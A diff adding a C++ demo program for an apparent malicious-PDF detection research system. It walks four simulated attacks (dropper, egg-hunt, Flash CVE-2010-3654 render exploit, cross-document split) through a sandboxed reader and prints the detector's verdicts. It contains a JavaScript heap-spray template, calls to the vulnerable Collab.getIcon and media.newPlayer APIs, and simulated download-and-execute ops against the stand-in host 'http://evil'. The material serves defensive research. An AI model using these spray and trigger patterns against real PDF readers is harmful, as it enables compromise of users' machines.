@@ -1,0 +1,148 @@
+// attack_lab: walks four attack scenarios from the paper through the full
+// deployed system, narrating what the attacker attempts, what the hooks
+// see, and what confinement leaves behind. A guided tour of §III-D/E and
+// §IV.
+//
+//   scenario 1 — classic dropper (spray + Collab.getIcon + drop/exec)
+//   scenario 2 — egg-hunt (embedded malware, mapped-memory search)
+//   scenario 3 — out-of-JS Flash exploit (spray in JS, hijack at render)
+//   scenario 4 — cross-document split attack (drop in A, execute in B)
+//
+// Build & run:  ./build/examples/attack_lab
+#include <iostream>
+
+#include "core/detector.hpp"
+#include "core/pipeline.hpp"
+#include "corpus/builders.hpp"
+#include "corpus/generator.hpp"
+#include "reader/reader_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "sys/kernel.hpp"
+
+using namespace pdfshield;
+
+namespace {
+
+struct Lab {
+  sys::Kernel kernel;
+  support::Rng rng{31337};
+  core::RuntimeDetector detector{kernel, rng};
+  core::FrontEnd frontend{rng, detector.detector_id()};
+  reader::ReaderSim reader{kernel};
+
+  Lab() { detector.attach(reader); }
+
+  core::Verdict run(const support::Bytes& file, const std::string& name) {
+    core::FrontEndResult fe = frontend.process(file);
+    detector.register_document(fe.record.key, name, fe.features);
+    reader.open_document(fe.output, name);
+    return detector.verdict(fe.record.key);
+  }
+
+  void report(const std::string& name, const core::Verdict& v) {
+    std::cout << "  verdict for " << name << ": "
+              << (v.malicious ? "MALICIOUS" : "benign") << " (score "
+              << v.malscore << ")\n";
+    for (const auto& e : v.evidence) std::cout << "    " << e << "\n";
+  }
+};
+
+std::string spray(const std::string& shellcode) {
+  return "var unit = unescape('%u9090%u9090') + '" + shellcode + "';"
+         "var spray = unit;"
+         "while (spray.length < 2097152) spray += spray;"
+         "var keep = spray;";
+}
+
+support::Bytes doc_with_js(support::Rng& rng, const std::string& script) {
+  corpus::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js(script);
+  return builder.build();
+}
+
+}  // namespace
+
+int main() {
+  // --- scenario 1: dropper -----------------------------------------------------
+  std::cout << "== scenario 1: classic dropper ==\n";
+  {
+    Lab lab;
+    reader::ShellcodeProgram prog;
+    prog.ops.push_back({"DROP", {"http://evil/d.exe", "c:/d.exe"}});
+    prog.ops.push_back({"EXEC", {"c:/d.exe"}});
+    auto v = lab.run(doc_with_js(lab.rng,
+                                 spray(reader::encode_shellcode(prog)) +
+                                     "Collab.getIcon(keep.substring(0, 1500));"),
+                     "dropper.pdf");
+    lab.report("dropper.pdf", v);
+    std::cout << "  dropped file quarantined: "
+              << lab.kernel.fs().exists("quarantine://c:/d.exe") << "\n\n";
+  }
+
+  // --- scenario 2: egg-hunt ------------------------------------------------------
+  std::cout << "== scenario 2: egg-hunt ==\n";
+  {
+    Lab lab;
+    reader::ShellcodeProgram prog;
+    prog.ops.push_back({"HUNT", {"32"}});
+    prog.ops.push_back({"WRITE", {"c:/egg.exe", "embedded-malware"}});
+    prog.ops.push_back({"EXEC", {"c:/egg.exe"}});
+    auto v = lab.run(doc_with_js(lab.rng,
+                                 spray(reader::encode_shellcode(prog)) +
+                                     "this.media.newPlayer(null);"),
+                     "egghunt.pdf");
+    lab.report("egghunt.pdf", v);
+    std::size_t probes = 0;
+    for (const auto& e : lab.kernel.event_log()) {
+      if (e.api == "NtAccessCheckAndAuditAlarm" || e.api == "IsBadReadPtr" ||
+          e.api == "NtDisplayString" || e.api == "NtAddAtom") {
+        ++probes;
+      }
+    }
+    std::cout << "  egg-hunt probes observed by hooks: " << probes << "\n\n";
+  }
+
+  // --- scenario 3: out-of-JS Flash exploit -----------------------------------------
+  std::cout << "== scenario 3: render-context Flash exploit ==\n";
+  {
+    Lab lab;
+    reader::ShellcodeProgram prog;
+    prog.ops.push_back({"DROP", {"http://evil/f.exe", "c:/f.exe"}});
+    prog.ops.push_back({"EXEC", {"c:/f.exe"}});
+    corpus::DocumentBuilder builder(lab.rng);
+    builder.add_blank_page();
+    builder.set_open_action_js(spray(reader::encode_shellcode(prog)));
+    builder.add_render_exploit("CVE-2010-3654", "Flash");
+    // Pad so the JS chain alone would not dominate the static score.
+    builder.add_padding_objects(30);
+    pdf::Document& d = builder.document();
+    (void)d;
+    auto v = lab.run(builder.build(), "flash.pdf");
+    lab.report("flash.pdf", v);
+    std::cout << "  note: the only in-JS evidence is memory consumption; the"
+                 " out-of-JS process creation completes the score.\n\n";
+  }
+
+  // --- scenario 4: cross-document split attack --------------------------------------
+  std::cout << "== scenario 4: cross-document split attack ==\n";
+  {
+    Lab lab;
+    corpus::CorpusGenerator gen;
+    auto [dropper, executor] = gen.generate_cross_document_pair();
+    auto va = lab.run(dropper.data, dropper.name);
+    std::cout << "  after document A (dropper only):\n";
+    lab.report(dropper.name, va);
+    std::cout << "  tracked executables: ";
+    for (const auto& exe : lab.detector.downloaded_executables()) {
+      std::cout << exe << " ";
+    }
+    std::cout << "\n  opening document B (executor)...\n";
+    auto vb = lab.run(executor.data, executor.name);
+    lab.report(executor.name, vb);
+    auto va_after = lab.detector.verdict_by_name(dropper.name);
+    std::cout << "  document A retroactively: "
+              << (va_after.malicious ? "MALICIOUS" : "benign") << "\n";
+  }
+  return 0;
+}
